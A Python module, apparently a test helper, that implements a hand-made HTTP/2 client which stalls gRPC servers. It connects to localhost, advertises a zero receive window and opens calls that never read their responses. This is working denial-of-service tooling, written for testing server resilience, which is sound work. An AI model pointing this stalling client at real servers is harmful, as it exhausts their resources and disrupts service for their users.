"""A shop that calls and never reads: raw HTTP/2 connections advertising a receive window of zero.

gRPC clients always read, so the attack needs a hand-made client: it sends its SETTINGS with
``INITIAL_WINDOW_SIZE = 0``, opens gRPC calls (optionally without ``grpc-timeout``) and then only answers the
server's PINGs and SETTINGS, never granting a byte of window. Response headers and trailers are not
flow-controlled, so it still sees how each call ended without taking any answer.
"""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Sequence

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


class StalledConnection:
    """One raw HTTP/2 connection to a gRPC server, with a reader thread that never opens the window."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.sock = socket.create_connection(("127.0.0.1", port))
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config)
        self.conn.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
        )
        self.lock = threading.Lock()
        self.headers: dict[int, dict[str, str]] = {}  # response headers and trailers by stream id
        self.reset: set[int] = set()
        self.closed = threading.Event()
        with self.lock:
            self.conn.initiate_connection()
            self.sock.sendall(self.conn.data_to_send())
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def call(self, path: str, payload: bytes, metadata: Sequence[tuple[str, str]] = ()) -> int:
        """Starts one unary or server-streaming gRPC call with no deadline; returns its stream id."""
        with self.lock:
            sid = self.conn.get_next_available_stream_id()
            self.conn.send_headers(
                sid,
                [
                    (":method", "POST"),
                    (":scheme", "http"),
                    (":path", path),
                    (":authority", f"127.0.0.1:{self.port}"),
                    ("content-type", "application/grpc"),
                    ("te", "trailers"),
                    *metadata,
                ],
            )
            self.conn.send_data(sid, b"\x00" + struct.pack(">I", len(payload)) + payload, end_stream=True)
            self.sock.sendall(self.conn.data_to_send())
        return sid

    def status(self, sid: int) -> str | None:
        """The call's ``grpc-status`` once its trailers arrived, else None."""
        with self.lock:
            return self.headers.get(sid, {}).get("grpc-status")

    def _read(self) -> None:
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                with self.lock:
                    for event in self.conn.receive_data(data):
                        if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                            self.headers.setdefault(event.stream_id, {}).update(dict(event.headers))  # type: ignore[arg-type]
                        elif isinstance(event, h2.events.StreamReset):
                            self.reset.add(event.stream_id)
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            return
                    # PING and SETTINGS acknowledgements only: received DATA is never acknowledged.
                    self.sock.sendall(self.conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            self.closed.set()

    def close(self) -> None:
        """Closes the socket."""
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(timeout=5)
